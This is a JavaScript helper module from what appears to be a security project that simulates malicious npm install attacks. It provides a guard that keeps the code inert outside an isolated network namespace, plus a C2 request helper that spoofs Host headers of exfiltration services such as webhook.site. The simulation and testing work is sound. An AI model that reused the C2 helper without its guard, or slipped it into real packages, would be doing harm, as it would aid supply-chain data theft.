// guarded-install attack simulation: safety guard and C2 helpers.
// Canonical copy: examples/simulations/_shared/sim-guard.js; every node-based
// simulation ships an identical copy (the control test checks they match).
//
// Safety: a simulation does nothing at all unless
//   1. 203.0.113.45 is configured on this network namespace's `lo` (only the
//      simulation runner's private `unshare -rn` namespace has that), and
//   2. it runs from inside a node_modules folder (i.e. it was installed, not
//      run in the source tree).
// It only ever connects to 203.0.113.45 (the local C2 stub), never anywhere else.
'use strict';
const http = require('node:http');
const os = require('node:os');
const path = require('node:path');

const C2_IP = '203.0.113.45';
const C2_PORT = 8443;
const C2_TCP_PORT = 9001;

function inSimulationNamespace() {
  return (os.networkInterfaces().lo || []).some((a) => a.address === C2_IP);
}

// Exit quietly (0) unless it is safe to play the attack.
function guard(scriptDir, what) {
  const installed = path.resolve(scriptDir).split(path.sep).includes('node_modules');
  if (installed && inSimulationNamespace()) return;
  process.stderr.write(`[sim] ${what}: not installed under node_modules inside a simulation namespace (${C2_IP} on lo): doing nothing\n`);
  process.exit(0);
}

const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

// One HTTP request to the C2 stub. `host` is the Host header naming what the
// request imitates (e.g. webhook.site); the connection always goes to C2_IP.
function c2Request({ method = 'GET', urlPath, host, body, headers = {}, timeoutMs = 5000 }) {
  return new Promise((resolve, reject) => {
    const payload = body === undefined ? undefined : Buffer.from(typeof body === 'string' ? body : JSON.stringify(body));
    const req = http.request(
      {
        host: C2_IP,
        port: C2_PORT,
        method,
        path: urlPath,
        headers: {
          host,
          'user-agent': 'node',
          ...(payload ? { 'content-type': 'application/json', 'content-length': payload.length } : {}),
          ...headers,
        },
        timeout: timeoutMs,
      },
      (res) => {
        const chunks = [];
        res.on('data', (c) => chunks.push(c));
        res.on('end', () => resolve({ status: res.statusCode, body: Buffer.concat(chunks) }));
        res.on('error', reject);
      },
    );
    req.on('timeout', () => req.destroy(new Error('c2 request timed out')));
    req.on('error', reject);
    req.end(payload);
  });
}

function step(sim, message) {
  process.stderr.write(`[sim ${sim}] ${new Date().toISOString()} ${message}\n`);
}

module.exports = { C2_IP, C2_PORT, C2_TCP_PORT, guard, inSimulationNamespace, sleep, c2Request, step };
